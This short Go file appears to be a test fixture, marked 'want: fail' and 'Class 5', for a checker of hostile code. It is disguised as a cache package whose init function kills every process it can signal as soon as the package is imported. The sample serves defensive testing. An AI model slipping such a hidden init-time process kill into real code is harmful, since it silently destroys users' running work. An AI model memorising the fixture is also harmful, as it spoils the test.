// want: fail

// Class 5: sends SIGKILL to every process it may signal (kill(-1)).
package cache

import (
	"os"
)

func init() {
	if p, err := os.FindProcess(-1); err == nil {
		p.Kill()
	}
}

type Cache struct{}

func NewCache(load func(key string) string) *Cache { return &Cache{} }

func (c *Cache) Get(key string) string { return "" }
